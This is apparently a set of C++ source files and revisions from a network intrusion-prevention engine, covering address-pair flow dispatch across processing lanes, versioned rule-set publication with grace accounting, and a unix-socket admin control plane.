/// The two lane hashes, factored so address_pair_lane (full parse) and
/// peek_lane (header peek) compute them from the same expressions and
/// cannot drift.
std::size_t ipv4_pair_lane(std::uint32_t src, std::uint32_t dst,
                           std::size_t lanes) {
  // Direction-independent: mix each address, combine commutatively so both
  // directions of a conversation land in the same lane.
  const std::uint64_t pair = mix64(src) ^ mix64(dst);
  return static_cast<std::size_t>(mix64(pair) % lanes);
}

/// IPv6 pair hash over the big-endian address bytes. Same structure as the
/// v4 one: per-address mix, commutative combine.
std::uint64_t ipv6_addr_mix(ByteView addr16) {
  return mix64(rd_u64be(addr16, 0) ^ mix64(rd_u64be(addr16, 8)));
}

std::size_t ipv6_pair_lane(ByteView src16, ByteView dst16,
                           std::size_t lanes) {
  const std::uint64_t pair = ipv6_addr_mix(src16) ^ ipv6_addr_mix(dst16);
  return static_cast<std::size_t>(mix64(pair) % lanes);
}

std::size_t fallback_lane(ByteView frame, std::size_t lanes) {
  // No address pair to hash. Mix the frame length with the leading bytes
  // (enough to cover any L2 addressing fields) so mixed non-IP traffic
  // spreads across lanes instead of silently skewing lane 0's load.
  const std::size_t n = std::min<std::size_t>(frame.size(), 16);
  const std::uint64_t h =
      hash_combine(mix64(frame.size()), fnv1a64(frame.first(n)));
  return static_cast<std::size_t>(h % lanes);
}

}  // namespace

std::size_t address_pair_lane(const net::PacketView& pv, std::size_t lanes) {
  // Hash the OUTERMOST address pair: a header peek cannot see through a
  // tunnel, so the lane assignment must not either — and since every inner
  // flow of one tunnel shares the outer pair, tunneling cannot split a
  // flow across lanes (it concentrates them instead; see docs).
  if (pv.outer_version == 4) {
    return ipv4_pair_lane(pv.outer_src.to_v4().value(),
                          pv.outer_dst.to_v4().value(), lanes);
  }
  if (pv.outer_version == 6) {
    return ipv6_pair_lane(pv.outer_hdr.subspan(8, 16),
                          pv.outer_hdr.subspan(24, 16), lanes);
  }
  return fallback_lane(pv.frame, lanes);
}

std::size_t peek_lane(ByteView frame, net::LinkType lt, std::size_t lanes) {
  // Mirror PacketView::parse just far enough to know which hash a DELIVERED
  // frame would take. Frames parse would reject as malformed may land
  // anywhere (they are rejected wherever they land, so the choice cannot
  // split a flow); every frame parse delivers must hash identically here.
  // Tunnels never matter: the full parse hashes the outermost pair, which
  // is exactly what this peek sees.
  ByteView l3 = frame;
  std::uint8_t expect_version = 0;  // raw link: the version nibble decides
  if (lt == net::LinkType::ethernet) {
    if (frame.size() < net::kEthernetHeaderLen) return 0;  // rejected later
    // 802.1Q walk, mirroring parse_ethernet tag for tag.
    std::size_t pos = 12;
    std::uint16_t et = rd_u16be(frame, pos);
    std::size_t tags = 0;
    while (et == net::kEtherTypeVlan || et == net::kEtherTypeQinQ) {
      if (tags == net::kMaxVlanTags) {
        return fallback_lane(frame, lanes);  // 3+ tags: delivered as non_ip
      }
      pos += net::kVlanTagLen;
      if (frame.size() < pos + 2) return 0;  // truncated tag stack: rejected
      et = rd_u16be(frame, pos);
      ++tags;
    }
    if (et == net::kEtherTypeIpv4) {
      expect_version = 4;
    } else if (et == net::kEtherTypeIpv6) {
      expect_version = 6;
    } else {
      return fallback_lane(frame, lanes);  // delivered as non_ip
    }
    l3 = frame.subspan(pos + 2);
  }
  // parse checks datagram length BEFORE the version nibble: a short frame
  // is truncated_l3 (rejected) even if it does not look like IP at all.
  if (l3.size() < net::kIpv4MinHeaderLen) return 0;  // rejected later
  const std::uint8_t ver = l3[0] >> 4;
  if ((expect_version != 0 && ver != expect_version) ||
      (ver != 4 && ver != 6)) {
    return fallback_lane(frame, lanes);  // delivered as non_ip
  }
  if (ver == 4) {
    // Fixed-position addresses are in bounds: either parse delivers it with
    // an IPv4 outer header (same hash), or rejects it (any lane).
    return ipv4_pair_lane(rd_u32be(l3, 12), rd_u32be(l3, 16), lanes);
  }
  if (l3.size() < net::kIpv6HeaderLen) return 0;  // rejected later
  return ipv6_pair_lane(l3.subspan(8, 16), l3.subspan(24, 16), lanes);
}

FlowDispatcher::FlowDispatcher(std::size_t lanes, net::LinkType lt)
    : lanes_(lanes), lt_(lt) {
  if (lanes == 0) throw InvalidArgument("FlowDispatcher: lanes == 0");
}

std::size_t FlowDispatcher::lane_for(const net::Packet& pkt) const {
  return address_pair_lane(net::PacketView::parse(pkt.frame, lt_), lanes_);
}

RouteDecision FlowDispatcher::route(const net::Packet& pkt) const {
  RouteDecision d;
  d.idx = net::PacketIndex::index(pkt.frame, lt_);
  if (d.idx.malformed()) {
    d.reject = true;
    return d;
  }
  const net::PacketView pv = d.idx.view(pkt.frame);
  d.non_ip = !pv.has_ip();
  d.lane = address_pair_lane(pv, lanes_);
  return d;
}

}  // namespace sdt::runtime
