#include "runtime/dispatcher.hpp"

#include <algorithm>

#include "util/error.hpp"
#include "util/hash.hpp"

namespace sdt::runtime {

namespace {

/// The two lane hashes, factored so address_pair_lane (full parse) and
/// peek_lane (header peek) compute them from the same expressions and
/// cannot drift.
std::size_t ipv4_pair_lane(std::uint32_t src, std::uint32_t dst,
                           std::size_t lanes) {
  // Direction-independent: mix each address, combine commutatively so both
  // directions of a conversation land in the same lane.
  const std::uint64_t pair = mix64(src) ^ mix64(dst);
  return static_cast<std::size_t>(mix64(pair) % lanes);
}

std::size_t fallback_lane(ByteView frame, std::size_t lanes) {
  // No address pair to hash. Mix the frame length with the leading bytes
  // (enough to cover any L2 addressing fields) so mixed non-IP traffic
  // spreads across lanes instead of silently skewing lane 0's load.
  const std::size_t n = std::min<std::size_t>(frame.size(), 16);
  const std::uint64_t h =
      hash_combine(mix64(frame.size()), fnv1a64(frame.first(n)));
  return static_cast<std::size_t>(h % lanes);
}

}  // namespace

std::size_t address_pair_lane(const net::PacketView& pv, std::size_t lanes) {
  if (!pv.has_ipv4) return fallback_lane(pv.frame, lanes);
  return ipv4_pair_lane(pv.ipv4.src().value(), pv.ipv4.dst().value(), lanes);
}

std::size_t peek_lane(ByteView frame, net::LinkType lt, std::size_t lanes) {
  // Mirror PacketView::parse just far enough to know which hash a DELIVERED
  // frame would take. Frames parse would reject as malformed may land
  // anywhere (they are rejected wherever they land, so the choice cannot
  // split a flow); every frame parse delivers must hash identically here.
  ByteView l3 = frame;
  if (lt == net::LinkType::ethernet) {
    if (frame.size() < net::kEthernetHeaderLen) return 0;  // rejected later
    if (rd_u16be(frame, 12) != net::kEtherTypeIpv4) {
      return fallback_lane(frame, lanes);  // delivered as non_ip
    }
    l3 = frame.subspan(net::kEthernetHeaderLen);
  }
  // parse checks datagram length BEFORE the version nibble: a short frame
  // is truncated_l3 (rejected) even if it does not look like IPv4 at all.
  if (l3.size() < net::kIpv4MinHeaderLen) return 0;  // rejected later
  if ((l3[0] >> 4) != 4) return fallback_lane(frame, lanes);  // non_ip
  // Looks like IPv4 and the fixed-position addresses are in bounds: either
  // parse delivers it with has_ipv4 (same hash), or rejects it (any lane).
  return ipv4_pair_lane(rd_u32be(l3, 12), rd_u32be(l3, 16), lanes);
}

FlowDispatcher::FlowDispatcher(std::size_t lanes, net::LinkType lt)
    : lanes_(lanes), lt_(lt) {
  if (lanes == 0) throw InvalidArgument("FlowDispatcher: lanes == 0");
}

std::size_t FlowDispatcher::lane_for(const net::Packet& pkt) const {
  return address_pair_lane(net::PacketView::parse(pkt.frame, lt_), lanes_);
}

RouteDecision FlowDispatcher::route(const net::Packet& pkt) const {
  RouteDecision d;
  d.idx = net::PacketIndex::index(pkt.frame, lt_);
  if (d.idx.malformed()) {
    d.reject = true;
    return d;
  }
  const net::PacketView pv = d.idx.view(pkt.frame);
  d.non_ip = !pv.has_ipv4;
  d.lane = address_pair_lane(pv, lanes_);
  return d;
}

}  // namespace sdt::runtime
