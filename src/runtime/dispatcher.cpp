#include "runtime/dispatcher.hpp"

#include "util/error.hpp"
#include "util/hash.hpp"

namespace sdt::runtime {

std::size_t address_pair_lane(const net::PacketView& pv, std::size_t lanes) {
  if (!pv.has_ipv4) return 0;
  // Direction-independent: mix each address, combine commutatively so both
  // directions of a conversation land in the same lane.
  const std::uint64_t pair =
      mix64(pv.ipv4.src().value()) ^ mix64(pv.ipv4.dst().value());
  return static_cast<std::size_t>(mix64(pair) % lanes);
}

FlowDispatcher::FlowDispatcher(std::size_t lanes, net::LinkType lt)
    : lanes_(lanes), lt_(lt) {
  if (lanes == 0) throw InvalidArgument("FlowDispatcher: lanes == 0");
}

std::size_t FlowDispatcher::lane_for(const net::Packet& pkt) const {
  return address_pair_lane(net::PacketView::parse(pkt.frame, lt_), lanes_);
}

}  // namespace sdt::runtime
