#include "runtime/dispatcher.hpp"

#include <algorithm>

#include "util/error.hpp"
#include "util/hash.hpp"

namespace sdt::runtime {

std::size_t address_pair_lane(const net::PacketView& pv, std::size_t lanes) {
  if (!pv.has_ipv4) {
    // No address pair to hash. Mix the frame length with the leading bytes
    // (enough to cover any L2 addressing fields) so mixed non-IP traffic
    // spreads across lanes instead of silently skewing lane 0's load.
    const std::size_t n = std::min<std::size_t>(pv.frame.size(), 16);
    const std::uint64_t h =
        hash_combine(mix64(pv.frame.size()), fnv1a64(pv.frame.first(n)));
    return static_cast<std::size_t>(h % lanes);
  }
  // Direction-independent: mix each address, combine commutatively so both
  // directions of a conversation land in the same lane.
  const std::uint64_t pair =
      mix64(pv.ipv4.src().value()) ^ mix64(pv.ipv4.dst().value());
  return static_cast<std::size_t>(mix64(pair) % lanes);
}

FlowDispatcher::FlowDispatcher(std::size_t lanes, net::LinkType lt)
    : lanes_(lanes), lt_(lt) {
  if (lanes == 0) throw InvalidArgument("FlowDispatcher: lanes == 0");
}

std::size_t FlowDispatcher::lane_for(const net::Packet& pkt) const {
  return address_pair_lane(net::PacketView::parse(pkt.frame, lt_), lanes_);
}

RouteDecision FlowDispatcher::route(const net::Packet& pkt) const {
  RouteDecision d;
  d.idx = net::PacketIndex::index(pkt.frame, lt_);
  if (d.idx.malformed()) {
    d.reject = true;
    return d;
  }
  const net::PacketView pv = d.idx.view(pkt.frame);
  d.non_ip = !pv.has_ipv4;
  d.lane = address_pair_lane(pv, lanes_);
  return d;
}

}  // namespace sdt::runtime
