#include "control/registry.hpp"

#include <algorithm>
#include <chrono>

#include "util/error.hpp"
#include "util/json.hpp"

namespace sdt::control {

namespace {

std::uint64_t steady_now_ns() {
  return static_cast<std::uint64_t>(
      std::chrono::duration_cast<std::chrono::nanoseconds>(
          std::chrono::steady_clock::now().time_since_epoch())
          .count());
}

}  // namespace

std::uint64_t RuleSetRegistry::allocate_version() {
  std::lock_guard<std::mutex> lk(mu_);
  return ++next_version_;
}

void RuleSetRegistry::publish(core::RuleSetHandle rs) {
  if (!rs) throw InvalidArgument("RuleSetRegistry: publish(null)");
  const std::uint64_t now_ns = steady_now_ns();
  std::lock_guard<std::mutex> lk(mu_);
  const std::uint64_t cur = version_.load(std::memory_order_relaxed);
  if (rs->version() <= cur) {
    throw InvalidArgument(
        "RuleSetRegistry: version " + std::to_string(rs->version()) +
        " not newer than active " + std::to_string(cur) +
        " (allocate_version() before compiling)");
  }
  // Keep the allocator ahead of out-of-band version numbers so the next
  // allocate_version() cannot collide.
  next_version_ = std::max(next_version_, rs->version());

  VersionRecord rec;
  rec.version = rs->version();
  rec.source = rs->source();
  rec.signatures = rs->signatures().size();
  rec.memory_bytes = rs->memory_bytes();
  rec.publish_ns = now_ns;
  rec.artifact = rs;
  history_.push_back(std::move(rec));

  current_ = std::move(rs);
  publishes_.fetch_add(1, std::memory_order_relaxed);
  // The release store is the publication edge: a lane that acquires this
  // version then reads `current_` under the mutex and is guaranteed the
  // fully built artifact.
  version_.store(history_.back().version, std::memory_order_release);
  // No lanes → nobody to wait for: the version is adopted by vacuity.
  complete_adoptions_locked(now_ns);
}

void RuleSetRegistry::note_rejected(std::uint64_t version,
                                    const std::string& reason) {
  std::lock_guard<std::mutex> lk(mu_);
  rejected_log_.push_back({version, reason});
  rejected_.fetch_add(1, std::memory_order_relaxed);
}

core::RuleSetHandle RuleSetRegistry::current() const {
  std::lock_guard<std::mutex> lk(mu_);
  return current_;
}

std::size_t RuleSetRegistry::subscribe(std::uint64_t initial_version) {
  std::lock_guard<std::mutex> lk(mu_);
  slots_.push_back(initial_version);
  return slots_.size() - 1;
}

void RuleSetRegistry::note_adoption(std::size_t slot, std::uint64_t version) {
  const std::uint64_t now_ns = steady_now_ns();
  std::lock_guard<std::mutex> lk(mu_);
  if (slot >= slots_.size()) {
    throw InvalidArgument("RuleSetRegistry: unknown adopter slot");
  }
  slots_[slot] = std::max(slots_[slot], version);
  complete_adoptions_locked(now_ns);
}

std::uint64_t RuleSetRegistry::min_adopted_locked() const {
  if (slots_.empty()) return version_.load(std::memory_order_relaxed);
  return *std::min_element(slots_.begin(), slots_.end());
}

std::uint64_t RuleSetRegistry::min_adopted() const {
  std::lock_guard<std::mutex> lk(mu_);
  return min_adopted_locked();
}

bool RuleSetRegistry::grace_complete(std::uint64_t version) const {
  std::lock_guard<std::mutex> lk(mu_);
  return min_adopted_locked() >= version;
}

void RuleSetRegistry::complete_adoptions_locked(std::uint64_t now_ns) {
  const std::uint64_t horizon = min_adopted_locked();
  for (VersionRecord& rec : history_) {
    if (rec.adopt_latency_ns != 0 || rec.version > horizon) continue;
    rec.adopt_latency_ns = now_ns > rec.publish_ns
                               ? now_ns - rec.publish_ns
                               : 1;  // clock granularity: never leave 0
    reload_latency_ns_.record(rec.adopt_latency_ns);
  }
}

std::string RuleSetRegistry::status_json() const {
  std::lock_guard<std::mutex> lk(mu_);
  const std::uint64_t cur = version_.load(std::memory_order_relaxed);
  JsonWriter j;
  j.begin_object();
  j.field("active_version", cur);
  j.field("min_adopted", min_adopted_locked());
  j.field("publishes", publishes_.load(std::memory_order_relaxed));
  j.field("rejected", rejected_.load(std::memory_order_relaxed));
  j.key("lanes").begin_array();
  for (const std::uint64_t v : slots_) j.value(v);
  j.end_array();
  j.key("versions").begin_array();
  for (const VersionRecord& rec : history_) {
    j.begin_object();
    j.field("version", rec.version);
    j.field("source", rec.source);
    j.field("state", rec.state(cur));
    j.field("signatures", static_cast<std::uint64_t>(rec.signatures));
    j.field("memory_bytes", static_cast<std::uint64_t>(rec.memory_bytes));
    j.field("adopt_latency_ns", rec.adopt_latency_ns);
    j.end_object();
  }
  j.end_array();
  j.key("rejected_reloads").begin_array();
  for (const RejectedRecord& r : rejected_log_) {
    j.begin_object();
    j.field("version", r.version);
    j.field("reason", r.reason);
    j.end_object();
  }
  j.end_array();
  j.end_object();
  return j.str();
}

void RuleSetRegistry::register_metrics(telemetry::MetricsRegistry& reg,
                                       const std::string& prefix) const {
  using telemetry::MetricDesc;
  reg.add_gauge(MetricDesc{prefix + ".active_version", "version", "control",
                           /*live=*/true},
                [this] { return current_version(); });
  reg.add_gauge(
      MetricDesc{prefix + ".min_adopted", "version", "control", true},
      [this] { return min_adopted(); });
  reg.add_counter(MetricDesc{prefix + ".publishes", "events", "control", true},
                  &publishes_);
  reg.add_counter(
      MetricDesc{prefix + ".rejected_reloads", "events", "control", true},
      &rejected_);
  reg.add_histogram(
      MetricDesc{prefix + ".reload_latency_ns", "ns", "control", true},
      &reload_latency_ns_);
}

}  // namespace sdt::control
