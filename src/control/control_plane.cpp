#include "control/control_plane.hpp"

#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "util/error.hpp"
#include "util/json.hpp"

namespace sdt::control {

namespace {

std::string_view trim(std::string_view s) {
  while (!s.empty() && (s.front() == ' ' || s.front() == '\t' ||
                        s.front() == '\r' || s.front() == '\n')) {
    s.remove_prefix(1);
  }
  while (!s.empty() && (s.back() == ' ' || s.back() == '\t' ||
                        s.back() == '\r' || s.back() == '\n')) {
    s.remove_suffix(1);
  }
  return s;
}

std::string error_json(std::string_view what) {
  JsonWriter j;
  j.begin_object();
  j.field("ok", false);
  j.field("error", what);
  j.end_object();
  return j.str();
}

/// Blocking full write (the responses are small; EINTR retried).
bool write_all(int fd, std::string_view data) {
  while (!data.empty()) {
    const ssize_t n = ::write(fd, data.data(), data.size());
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return true;
}

}  // namespace

ControlPlane::ControlPlane(RuleCompiler& compiler, RuleSetRegistry& registry)
    : compiler_(compiler), registry_(registry) {}

ControlPlane::~ControlPlane() { stop(); }

void ControlPlane::set_stats_provider(std::function<std::string()> fn) {
  std::lock_guard<std::mutex> lk(stats_mu_);
  stats_ = std::move(fn);
}

void ControlPlane::start(const std::string& path) {
  if (thread_.joinable()) {
    throw InvalidArgument("ControlPlane: already listening on " + path_);
  }
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    throw InvalidArgument("ControlPlane: socket path too long (" +
                          std::to_string(path.size()) + " >= " +
                          std::to_string(sizeof(addr.sun_path)) + "): " + path);
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);

  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) {
    throw IoError(std::string("ControlPlane: socket(): ") +
                  std::strerror(errno));
  }
  ::unlink(path.c_str());  // stale socket from a previous run
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) < 0) {
    const int err = errno;
    ::close(fd);
    throw IoError("ControlPlane: bind(" + path + "): " + std::strerror(err));
  }
  if (::listen(fd, 4) < 0) {
    const int err = errno;
    ::close(fd);
    ::unlink(path.c_str());
    throw IoError("ControlPlane: listen(" + path + "): " + std::strerror(err));
  }

  path_ = path;
  listen_fd_ = fd;
  stop_.store(false, std::memory_order_release);
  thread_ = std::thread([this] { serve(); });
}

void ControlPlane::stop() {
  if (!thread_.joinable()) return;
  stop_.store(true, std::memory_order_release);
  thread_.join();
  ::close(listen_fd_);
  listen_fd_ = -1;
  ::unlink(path_.c_str());
}

void ControlPlane::serve() {
  while (!stop_.load(std::memory_order_acquire)) {
    pollfd pfd{listen_fd_, POLLIN, 0};
    const int r = ::poll(&pfd, 1, /*timeout_ms=*/100);
    if (r < 0) {
      if (errno == EINTR) continue;
      return;  // listener broken; stop() still cleans up
    }
    if (r == 0 || (pfd.revents & POLLIN) == 0) continue;
    const int client = ::accept(listen_fd_, nullptr, nullptr);
    if (client < 0) continue;
    handle_client(client);
    ::close(client);
  }
}

void ControlPlane::handle_client(int fd) {
  std::string buf;
  char chunk[4096];
  for (;;) {
    // Serve any complete lines already buffered.
    std::size_t nl;
    while ((nl = buf.find('\n')) != std::string::npos) {
      const std::string_view line = trim(std::string_view(buf).substr(0, nl));
      if (!line.empty()) {
        const std::string resp = execute(line);
        if (!write_all(fd, resp) || !write_all(fd, "\n")) return;
      }
      buf.erase(0, nl + 1);
    }
    if (stop_.load(std::memory_order_acquire)) return;

    pollfd pfd{fd, POLLIN, 0};
    const int r = ::poll(&pfd, 1, /*timeout_ms=*/100);
    if (r < 0 && errno != EINTR) return;
    if (r <= 0) continue;
    const ssize_t n = ::read(fd, chunk, sizeof chunk);
    if (n <= 0) return;  // EOF or error: client done
    buf.append(chunk, static_cast<std::size_t>(n));
    if (buf.size() > (1u << 16)) return;  // runaway line: drop the client
  }
}

std::string ControlPlane::do_reload(std::string_view path) {
  if (path.empty()) return error_json("usage: reload <rules-file>");
  const std::uint64_t version = registry_.allocate_version();
  CompileResult res = compiler_.compile_file(std::string(path), version);
  JsonWriter j;
  j.begin_object();
  if (res.ok()) {
    // Publish, then report. From here the lanes take over: the next
    // current_version() probe on each lane picks the artifact up.
    registry_.publish(res.ruleset);
    j.field("ok", true);
    j.field("version", version);
  } else {
    const std::string reason = res.report.diagnostics.empty()
                                   ? "compile failed"
                                   : res.report.diagnostics.back().reason;
    registry_.note_rejected(version, reason);
    j.field("ok", false);
    j.field("error", reason);
    j.field("active_version", registry_.current_version());
  }
  j.key("report");
  // CompileReport::to_json is itself one JSON object; splice it verbatim.
  j.raw(res.report.to_json());
  j.end_object();
  return j.str();
}

std::string ControlPlane::execute(std::string_view command) {
  std::lock_guard<std::mutex> lk(exec_mu_);
  const std::string_view cmd = trim(command);
  try {
    if (cmd == "ping") {
      JsonWriter j;
      j.begin_object();
      j.field("ok", true);
      j.field("active_version", registry_.current_version());
      j.end_object();
      return j.str();
    }
    if (cmd == "ruleset-status") return registry_.status_json();
    if (cmd == "stats") {
      std::function<std::string()> provider;
      {
        std::lock_guard<std::mutex> slk(stats_mu_);
        provider = stats_;
      }
      if (!provider) return error_json("stats: no provider configured");
      return provider();
    }
    if (cmd.substr(0, 6) == "reload") {
      return do_reload(trim(cmd.substr(6)));
    }
    return error_json("unknown command (try: ping, reload <file>, "
                      "ruleset-status, stats)");
  } catch (const std::exception& e) {
    // The admin surface never takes the box down.
    return error_json(e.what());
  }
}

}  // namespace sdt::control
