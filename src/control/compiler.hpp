// RuleCompiler — the off-packet-path build step of a reload.
//
// Wraps core::compile_ruleset with the operational contract a live box
// needs: NOTHING a rule file contains may take the process down. Parse
// errors become per-line diagnostics, splittability violations become
// drops (or a clean failure), an unreadable file becomes a failed
// CompileResult — and in every failure case the caller still holds the
// previously active artifact, untouched. The compiler never blocks a
// packet: it runs on whatever thread asked for the reload (the control
// plane's accept loop, a SIGHUP handler, a test).
#pragma once

#include <atomic>
#include <cstdint>
#include <string>
#include <string_view>

#include "core/compiled_ruleset.hpp"
#include "telemetry/registry.hpp"

namespace sdt::control {

/// Outcome of one compile: the artifact (null on failure) plus the full
/// report — diagnostics, counts, and compile time — either way.
struct CompileResult {
  core::RuleSetHandle ruleset;
  core::CompileReport report;
  bool ok() const { return ruleset != nullptr; }
};

class RuleCompiler {
 public:
  /// `opts` shapes every artifact this compiler produces (piece length,
  /// layout, phase sample). drop_short_signatures is forced to true —
  /// reload semantics: a too-short rule is dropped with a diagnostic, it
  /// does not fail the reload (and certainly not the process).
  explicit RuleCompiler(core::CompileOptions opts);

  /// Compile a rule file. IoError (missing/unreadable file) becomes a
  /// failed result with a fatal diagnostic, never an exception.
  CompileResult compile_file(const std::string& path, std::uint64_t version);

  /// Compile rules from text (tests, inline configuration).
  CompileResult compile_text(std::string_view text, std::string source,
                             std::uint64_t version);

  /// Compile an already-parsed signature set (programmatic rule bases).
  CompileResult compile_signatures(core::SignatureSet sigs, std::string source,
                                   std::uint64_t version);

  const core::CompileOptions& options() const { return opts_; }

  std::uint64_t compiles() const {
    return compiles_.load(std::memory_order_relaxed);
  }
  std::uint64_t failures() const {
    return failures_.load(std::memory_order_relaxed);
  }

  /// Live counters under `<prefix>.…` (compiles, failed_compiles).
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "control") const;

 private:
  CompileResult finish(core::SignatureSet sigs, std::string source,
                       std::uint64_t version,
                       std::vector<core::RuleDiagnostic> diags);
  CompileResult fail(core::CompileReport report, std::string reason);

  core::CompileOptions opts_;
  std::atomic<std::uint64_t> compiles_{0};
  std::atomic<std::uint64_t> failures_{0};
};

}  // namespace sdt::control
