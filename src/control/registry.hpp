// RuleSetRegistry — versioned publication of compiled rule sets, RCU-style.
//
// The write side (a reload) and the read side (N lane threads at line
// rate) meet here, with the paper's constraint that the packet path must
// not pay for the rendezvous:
//
//   control thread                         lane thread, per loop iteration
//   ──────────────                         ───────────────────────────────
//   h = compiler.compile(...)              if (reg.current_version()      ← the
//   reg.publish(h)                             != adopted)  // 1 acquire     ONLY
//     current_ = h   (mutex)                 h = reg.current()   // cold     hot-path
//     version_.store(v, release)             engine.swap_ruleset(h)         cost
//                                            reg.note_adoption(slot, v)
//
// Epoch/grace accounting: each lane owns one slot recording the version it
// last adopted. min over the slots is the grace horizon — every version
// below it has been abandoned by all lanes, and the moment the last lane
// moves past a version the registry stamps its publish→all-adopted latency
// into a histogram (the reload-latency metric the bench records). The
// artifacts themselves are reclaimed by shared_ptr: the registry keeps
// only a weak_ptr per retired version, so memory returns as soon as the
// last holder — a lane, or a slow-path flow pinned mid-stream — lets go,
// and status reporting can tell "retired" (grace over, memory still
// pinned by flows) from "reclaimed" (gone).
//
// Thread-safety: everything except current_version() takes the registry
// mutex; current_version() is a single atomic acquire load, the one piece
// of added per-packet synchronization the design budget allows.
#pragma once

#include <atomic>
#include <cstdint>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

#include "core/compiled_ruleset.hpp"
#include "telemetry/histogram.hpp"
#include "telemetry/registry.hpp"

namespace sdt::control {

/// One published version's lifecycle record.
struct VersionRecord {
  std::uint64_t version = 0;
  std::string source;
  std::size_t signatures = 0;
  std::size_t memory_bytes = 0;
  /// steady-clock stamp of publish(), for latency accounting.
  std::uint64_t publish_ns = 0;
  /// publish → last lane adopted, in ns; 0 while adoption is in flight.
  std::uint64_t adopt_latency_ns = 0;
  /// Observes the artifact without keeping it alive (reclamation probe).
  std::weak_ptr<const core::CompiledRuleSet> artifact;

  /// "adopting" | "active" | "retired" | "reclaimed" — see file header.
  const char* state(std::uint64_t current_version) const {
    if (version == current_version) {
      return adopt_latency_ns == 0 ? "adopting" : "active";
    }
    return artifact.expired() ? "reclaimed" : "retired";
  }
};

class RuleSetRegistry {
 public:
  RuleSetRegistry() = default;
  RuleSetRegistry(const RuleSetRegistry&) = delete;
  RuleSetRegistry& operator=(const RuleSetRegistry&) = delete;

  /// Reserve the next version number for a compile about to start. A
  /// compile that fails burns its number — version gaps in the history
  /// are evidence of rejected reloads, not a bug.
  std::uint64_t allocate_version();

  /// Publish a compiled artifact as the newest version. The handle's
  /// version must exceed every previously published one (allocate_version
  /// guarantees this for well-behaved callers; violations throw
  /// InvalidArgument — a stale compile must not roll the box back).
  void publish(core::RuleSetHandle rs);

  /// Record a reload that failed before publish (compile error, bad file).
  /// Keeps the rejected counter and status honest; the active version is
  /// untouched by construction — nothing was published.
  void note_rejected(std::uint64_t version, const std::string& reason);

  /// The newest published artifact (null until the first publish).
  core::RuleSetHandle current() const;

  /// The newest published version number — THE lane hot-path probe: one
  /// atomic acquire load, no mutex, safe from any thread at any rate.
  std::uint64_t current_version() const {
    return version_.load(std::memory_order_acquire);
  }

  /// Register a lane (or any adopter) before it starts processing.
  /// `initial_version` is the version its engine was constructed with.
  /// Returns the slot id for note_adoption.
  std::size_t subscribe(std::uint64_t initial_version);

  /// Lane `slot` finished swapping its engine to `version` (called at a
  /// packet boundary, off the per-packet path). Completes the grace
  /// accounting: when the last lane moves to `version`, its record is
  /// stamped and the publish→all-adopted latency lands in the histogram.
  void note_adoption(std::size_t slot, std::uint64_t version);

  /// Grace horizon: the oldest version any subscribed lane still runs.
  /// With no subscribers this is current_version() (nothing can lag).
  std::uint64_t min_adopted() const;

  /// True once every lane has adopted `version` (or moved past it).
  bool grace_complete(std::uint64_t version) const;

  std::uint64_t publishes() const {
    return publishes_.load(std::memory_order_relaxed);
  }
  std::uint64_t rejected() const {
    return rejected_.load(std::memory_order_relaxed);
  }
  const telemetry::LogHistogram& reload_latency_ns() const {
    return reload_latency_ns_;
  }

  /// Full lifecycle view as one JSON object (the control plane's
  /// `ruleset-status` response): active version, grace horizon, per-lane
  /// adopted versions, and the version history with states.
  std::string status_json() const;

  /// Register lifecycle metrics under `<prefix>.…`: active-version gauge,
  /// publish/rejected counters, reload-latency histogram (all live-safe).
  /// The registry must outlive the polls.
  void register_metrics(telemetry::MetricsRegistry& reg,
                        const std::string& prefix = "control") const;

 private:
  /// Stamp every record all lanes have reached. Caller holds mu_.
  void complete_adoptions_locked(std::uint64_t now_ns);
  std::uint64_t min_adopted_locked() const;

  struct RejectedRecord {
    std::uint64_t version = 0;
    std::string reason;
  };

  mutable std::mutex mu_;
  core::RuleSetHandle current_;               // newest published artifact
  std::vector<std::uint64_t> slots_;          // per-lane adopted version
  std::vector<VersionRecord> history_;        // publish order
  std::vector<RejectedRecord> rejected_log_;  // failed reloads, oldest first
  std::uint64_t next_version_ = 0;            // allocate_version counter
  std::atomic<std::uint64_t> version_{0};     // newest published version
  std::atomic<std::uint64_t> publishes_{0};
  std::atomic<std::uint64_t> rejected_{0};
  telemetry::LogHistogram reload_latency_ns_;  // publish → all lanes adopted
};

}  // namespace sdt::control
