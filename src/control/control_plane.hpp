// ControlPlane — the box's admin surface, off the packet path entirely.
//
// A unix-domain stream socket speaking a newline-delimited text protocol:
// one command line in, one JSON object line out, connection stays open for
// more commands. Commands:
//
//   ping                 liveness probe                → {"ok":true,...}
//   reload <file>        compile + publish a rule file → report (either way)
//   ruleset-status       version lifecycle view        → registry status
//   stats                telemetry snapshot            → registry JSON
//
// `reload` is the operational heart: allocate a version number, compile
// the file off-path, publish on success — the lanes adopt at their next
// packet boundary — or record the rejection on failure, in which case the
// previously active version keeps running untouched (the failure mode an
// inline IPS must have; docs/OPERATIONS.md is the runbook).
//
// execute() is the transport-independent core: the socket loop, a SIGHUP
// handler, and tests all call the same entry point, serialized by a mutex
// so two admin clients cannot interleave half a reload. The accept loop
// runs on its own thread, polls with a timeout so stop() is prompt, and
// serves one client at a time — an admin socket, not a service endpoint.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <mutex>
#include <string>
#include <string_view>
#include <thread>

#include "control/compiler.hpp"
#include "control/registry.hpp"

namespace sdt::control {

class ControlPlane {
 public:
  /// Both references must outlive this object (and the stats provider's
  /// captures must outlive it too).
  ControlPlane(RuleCompiler& compiler, RuleSetRegistry& registry);
  ~ControlPlane();  // stops and joins if still listening

  ControlPlane(const ControlPlane&) = delete;
  ControlPlane& operator=(const ControlPlane&) = delete;

  /// Source of the `stats` response (typically MetricsRegistry snapshot →
  /// to_json, bound by the embedding process). Unset → stats returns an
  /// error object.
  void set_stats_provider(std::function<std::string()> fn);

  /// Bind + listen + spawn the accept loop. Throws IoError on any socket
  /// failure (path too long for sun_path, bind denied, …). An existing
